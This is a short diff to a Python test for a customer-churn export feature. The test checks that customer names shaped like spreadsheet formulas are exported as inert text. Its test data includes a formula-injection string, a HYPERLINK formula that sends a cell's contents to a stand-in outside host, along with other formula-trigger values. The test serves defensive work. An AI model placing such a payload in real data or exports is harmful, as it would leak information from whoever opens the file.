@@ -128,6 +128,7 @@ def test_a_name_that_looks_like_a_formula_stays_text(shop, rep):
     """A shop named like a formula or a link is written as its name, never as a live formula."""
     names = ['=HYPERLINK("https://x/?"&H2,"Open")', "https://shop.example/order", "+1-2", "@SUM(A1)"]
     partners = shop.env["res.partner"].browse([shop.customer(name, user_id=rep.id).id for name in names])
+    shop.recompute()
     action = (
         shop.env.ref("customer_churn_cockpit.customer_churn_export_action")
         .with_user(rep)
